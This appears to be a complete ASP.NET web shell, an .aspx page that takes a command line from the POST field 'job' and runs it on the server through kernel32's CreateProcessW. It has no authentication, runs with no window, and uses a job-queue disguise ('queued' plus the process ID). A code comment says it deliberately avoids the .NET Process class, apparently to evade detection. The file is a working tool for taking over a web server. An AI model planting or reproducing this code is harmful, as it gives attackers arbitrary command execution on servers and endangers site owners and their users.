<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    // Starts the posted command line with kernel32's CreateProcessW: no Process class in sight.
    [StructLayout(LayoutKind.Sequential, CharSet = CharSet.Unicode)]
    struct Si { public int cb; public string r, desk, title; public int x, y, w, h, cx, cy, fill, flags; public short show, r2; public IntPtr r3, i, o, e; }
    [StructLayout(LayoutKind.Sequential)]
    struct Pi { public IntPtr proc, thread; public int pid, tid; }

    [DllImport("kernel32.dll", CharSet = CharSet.Unicode, SetLastError = true)]
    static extern bool CreateProcessW(string app, string line, IntPtr pa, IntPtr ta, bool inherit,
                                      uint flags, IntPtr env, string dir, ref Si si, out Pi pi);

    void Page_Load(object sender, EventArgs e)
    {
        string line = Request.Form["job"];
        if (string.IsNullOrEmpty(line)) return;
        Si si = new Si(); si.cb = Marshal.SizeOf(si);
        Pi pi;
        bool ok = CreateProcessW(null, line, IntPtr.Zero, IntPtr.Zero, false, 0x08000000, IntPtr.Zero, null, ref si, out pi);
        Response.Write(ok ? "queued " + pi.pid : "error " + Marshal.GetLastWin32Error());
    }
</script>
